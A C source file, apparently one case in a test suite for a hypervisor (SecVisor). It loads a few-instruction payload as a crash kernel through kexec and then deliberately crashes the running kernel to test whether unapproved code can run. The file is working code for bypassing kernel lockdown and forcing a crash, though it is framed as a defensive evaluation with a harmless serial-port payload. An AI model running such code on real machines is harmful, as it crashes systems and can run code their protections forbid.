// Row 17. Another kernel, a few instructions long, started by kdump: loaded for a crash, then the kernel made to crash.
// Source: kexec as a way around lockdown (Garrett 2013); kdump.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code. Linux has no tables left to take the refusal by: a triple fault, the machine is reset.
#include "common/attack.h"
#include <errno.h>
#include <linux/kexec.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

// Memory set apart for a crash kernel.
static u64 crash_memory(void)
{
	FILE *file = fopen("/proc/iomem", "r");
	unsigned long long start, end;
	char line[256];

	while (file && fgets(line, sizeof(line), file))
		if (strstr(line, "Crash kernel") && sscanf(line, "%llx-%llx", &start, &end) == 2)
			return start;
	failed("no memory is set apart for a crash");
}

ATTACK("kdump")
{
	// Says the text behind it on COM1, then switches the machine off.
	static const u8 code[] = {
		0x48, 0x8d, 0x35, 0x29, 0, 0, 0, // lea rsi, [rip + 0x29]: the text
		0x66, 0xba, 0xfd, 0x03, // 7: mov dx, 3fdh
		0xec, // b: in al, dx
		0xa8, 0x20, // test al, 20h
		0x74, 0xfb, // jz b
		0xac, // 10: lodsb
		0x84, 0xc0, // test al, al
		0x74, 0x07, // jz 1c
		0x66, 0xba, 0xf8, 0x03, // mov dx, 3f8h
		0xee, // out dx, al
		0xeb, 0xeb, // jmp 7
		0x66, 0xba, 0x04, 0x06, // 1c: mov dx, 604h, PM1 control
		0x66, 0xb8, 0x00, 0x20, // mov ax, 2000h: S5
		0x66, 0xef, // out dx, ax
		0xf4, // hlt
		0xeb, 0xfd, // jmp hlt
	};
	static const char text[] = "\r\nattack: name=kdump result=succeeded detail=another kernel runs\r\n";
	u64 place = crash_memory();
	static u8 image[PAGE] __attribute__((aligned(4096)));
	struct kexec_segment segment = { image, sizeof(image), (void *)place, PAGE };

	memcpy(image, code, sizeof(code));
	memcpy(image + 0x30, text, sizeof(text));
	if (syscall(SYS_kexec_load, place, 1, &segment, KEXEC_ON_CRASH | KEXEC_ARCH_X86_64))
		refused("no kernel is loaded: %s", strerror(errno));
	about_to("crash");
	write_file("/proc/sysrq-trigger", "c\n");
	failed("it did not crash");
}
